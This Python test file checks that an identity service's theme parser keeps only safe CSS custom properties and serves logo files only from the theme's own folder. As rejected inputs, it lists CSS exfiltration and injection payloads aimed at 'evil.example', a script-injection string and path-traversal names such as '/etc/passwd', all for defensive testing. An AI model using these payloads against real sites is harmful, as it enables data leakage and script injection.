"""What a project's theme may change, and what it may not."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from tests.portico.identity.pages.conftest import Browser

from portico.identity.pages.theme import ThemeFile, parse
from portico.identity.pool import Pool

THEME = """
/* ours */
:root { --accent: #2f5a45; --heading: "Iowan Old Style", Palatino, serif; --shadow: 0 1px 2px rgb(60 45 20 / .06);
        --logo: "logo.svg"; }
@media (prefers-color-scheme: dark) { :root { --accent: #9ed0b0; } }
"""


def css(text: str, folder: Path = Path("auth")) -> str:
    return parse(text, folder).css.decode()


def test_custom_properties_are_taken_for_light_and_dark() -> None:
    light, _, dark = css(THEME).partition("@media (prefers-color-scheme: dark)")
    assert "--accent: #2f5a45;" in light
    assert '--heading: "Iowan Old Style", Palatino, serif;' in light
    assert "--accent: #9ed0b0;" in dark
    assert "--logo" not in light


@pytest.mark.parametrize(
    "text",
    [
        "body { display: none; }",
        ":root { background: red; }",
        ":root { --accent: url(https://evil.example/x); }",
        ":root { --accent: URL (//evil.example); }",
        ":root { --accent: image-set('https://evil.example/x' 1x); }",
        ":root { --accent: red} body{display:none; }",
        ":root { --accent: \\75rl(x); }",
        ":root { --accent: </style><script>alert(1)</script>; }",
        "@import 'https://evil.example/x.css'; ",
        "@font-face { font-family: x; src: url(//evil.example); }",
        "input[value^=a] { --x: url(//evil.example/a); }",
    ],
)
def test_nothing_else_is_taken(text: str) -> None:
    found = css(text)
    for word in ("evil", "url", "display", "script", "import", "background", "75rl"):
        assert word not in found.lower()


def test_a_logo_lies_beside_the_theme_and_nowhere_else(tmp_path: Path) -> None:
    (tmp_path / "auth").mkdir()
    (tmp_path / "secret.svg").write_text("<svg/>")
    (tmp_path / "auth/logo.svg").write_text("<svg/>")
    (tmp_path / "auth/pool.yaml").write_text("name: main")
    assert parse(THEME, tmp_path / "auth").logo == tmp_path / "auth/logo.svg"
    for name in ("../secret.svg", "pool.yaml", "none.svg", "/etc/passwd"):
        assert parse(f':root {{ --logo: "{name}"; }}', tmp_path / "auth").logo is None


async def test_a_change_shows_at_once(browser: Browser, pool: Pool) -> None:
    assert (await browser.get("/assets/theme.css")).text == ""
    folder = pool.root / "auth"
    folder.mkdir()
    (folder / "theme.css").write_text(THEME)
    (folder / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    theme = await browser.get("/assets/theme.css")
    assert "--accent: #2f5a45" in theme.text
    assert theme.headers["content-type"].startswith("text/css")
    assert '<img class="logo" src="/auth/main/assets/logo"' in (await browser.get("/login")).text
    logo = await browser.get("/assets/logo")
    assert logo.headers["content-type"] == "image/svg+xml"
    assert "sandbox" in logo.headers["content-security-policy"]
    again = await browser.get("/assets/theme.css", headers={"if-none-match": theme.headers["etag"]})
    assert again.status_code == 304


def test_a_theme_that_cannot_be_read_is_no_theme(tmp_path: Path) -> None:
    (tmp_path / "auth").mkdir()
    path = tmp_path / "auth/theme.css"
    theme = ThemeFile(tmp_path)
    assert theme.current().css == b""
    path.write_bytes(b"\xff\xfe{{{{" + os.urandom(100))
    assert theme.current().css == b""


@pytest.mark.parametrize("name", ["nothing.css", "..", "..%2Fpages.py", "%2e%2e%2ftheme.py", "logo"])
async def test_nothing_else_is_served(browser: Browser, name: str) -> None:
    assert (await browser.get(f"/assets/{name}")).status_code == 404
